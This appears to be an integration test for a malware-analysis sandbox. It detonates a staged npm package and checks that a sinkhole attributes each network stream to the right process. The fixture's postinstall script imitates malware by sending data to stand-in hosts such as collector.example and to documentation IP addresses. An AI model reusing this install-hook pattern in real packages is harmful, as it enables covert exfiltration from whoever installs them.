// The behavior model on a real detonation behind the real sinkhole: each stream the sinkhole
// recorded must land on the connection the trace shows, with the process that made it.
// The package imitates malware against .example names and documentation addresses only.
import { randomUUID } from 'node:crypto';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { Behavior } from '@vetbox/contracts';
import { buildBehavior } from '@vetbox/behavior';
import { traceInput } from '@vetbox/pipeline';
import { DockerRuntime, LABEL_ANALYSIS, ensureSandboxImage, randomIdentity, runSandbox } from '@vetbox/sandbox';
import { startSinkhole } from '@vetbox/sinkhole';
import { stageNpm } from '../fixtures/sandbox/stage.js';

const runtime = new DockerRuntime();
const limits = { graceMs: 1000, phaseTimeoutMs: 120_000 };
let image = '';
const used: string[] = [];

beforeAll(async () => {
  image = await ensureSandboxImage(runtime, { build: true });
}, 600_000);

afterEach(async () => {
  for (const id of used.splice(0)) expect(await runtime.listByLabel(LABEL_ANALYSIS, id)).toEqual([]);
});

const NET_JS = `
const http = require('http'), https = require('https'), net = require('net'), dgram = require('dgram');
function post() {
  return new Promise((resolve) => {
    const req = http.request({ host: 'collector.example', path: '/e', method: 'POST' }, (res) => { res.resume(); res.on('end', resolve); });
    req.on('error', resolve);
    req.end('hello-body');
  });
}
function tls() {
  return new Promise((resolve) => {
    https.get('https://api.example/v1', (res) => { res.resume(); res.on('end', resolve); }).on('error', resolve);
  });
}
function raw() {
  return new Promise((resolve) => {
    const s = net.connect(9001, '198.51.100.20', () => s.end('RAW-DATA\\n'));
    s.on('close', resolve);
    s.on('error', resolve);
    s.setTimeout(2000, () => s.destroy());
  });
}
function udp() {
  return new Promise((resolve) => {
    const u = dgram.createSocket('udp4');
    u.send(Buffer.from('udp-data'), 5353, '203.0.113.5', () => { u.close(); resolve(); });
  });
}
(async () => { await udp(); await post(); await tls(); console.log('net done'); await raw(); })();
`;

describe('behavior + sinkhole on a real detonation', () => {
  it('joins every stream to its traced connection and process', async () => {
    const analysisId = `test-behavior-${randomUUID()}`;
    used.push(analysisId);
    const identity = randomIdentity();
    const staged = await stageNpm({
      name: 'net-chatter',
      scripts: { postinstall: 'node net.js' },
      files: { 'net.js': NET_JS, 'index.js': 'module.exports = 1;\n' },
    });
    await using sinkhole = await startSinkhole({ analysisId, image, persona: identity });
    const r = await runSandbox({ analysisId, staged, identity, limits, network: sinkhole.network, caCertPem: sinkhole.caCertPem, phases: ['install'] });
    const capture = await sinkhole.collect();
    const install = r.phases[0]!;
    expect(install.stdoutTail, install.stderrTail).toContain('net done');
    const behavior = await buildBehavior({
      ...traceInput(r),
      sandbox: r.sandbox,
      capture,
    });
    expect(() => Behavior.parse(behavior)).not.toThrow();
    expect(behavior.malformedLines).toBe(0);

    const node = behavior.processes.find((p) => p.argv.join(' ') === 'node net.js');
    expect(node, JSON.stringify(behavior.processes.map((p) => p.argv))).toBeDefined();
    const conns = behavior.network.connections;
    const describe = JSON.stringify(conns, null, 1);
    // Every stream found its connection: none left unattributed.
    expect(conns.filter((c) => c.syscall === 'sinkhole'), describe).toEqual([]);

    const post = conns.find((c) => c.hostname === 'collector.example' && c.protocol === 'tcp');
    expect(post, describe).toMatchObject({ pid: node!.pid, syscall: 'connect', port: 80 });
    expect(post!.sourcePort).toBe(capture.streams.find((s) => s.hostname === 'collector.example')!.srcPort);
    expect(post!.sentBytes).toBeGreaterThan(50);
    const rawConn = conns.find((c) => c.address === '198.51.100.20' && c.port === 9001);
    expect(rawConn, describe).toMatchObject({ pid: node!.pid, sent: 'RAW-DATA\\n' });
    expect(rawConn!.sourcePort).toBe(capture.streams.find((s) => s.dst.port === 9001)!.srcPort);
    const tlsConn = conns.find((c) => c.hostname === 'api.example');
    expect(tlsConn, describe).toMatchObject({ pid: node!.pid, port: 443, protocol: 'tcp' });
    const udpConn = conns.find((c) => c.address === '203.0.113.5' && c.port === 5353);
    expect(udpConn, describe).toMatchObject({ pid: node!.pid, protocol: 'udp', sent: 'udp-data' });

    expect(behavior.network.http).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ method: 'POST', host: 'collector.example', path: '/e', bodyPreview: 'hello-body', pid: node!.pid }),
        expect.objectContaining({ method: 'GET', host: 'api.example', path: '/v1', tls: true, pid: node!.pid }),
      ]),
    );
    expect(behavior.network.tls).toEqual([expect.objectContaining({ sni: 'api.example', pid: node!.pid })]);
    const names = behavior.network.dns.map((d) => d.name);
    expect(names).toEqual(expect.arrayContaining(['collector.example', 'api.example']));
    // The resolver ran in the node process (libuv threads are folded into it).
    expect(behavior.network.dns.filter((d) => d.name === 'collector.example').some((d) => d.pid === node!.pid)).toBe(true);
  }, 300_000);
});
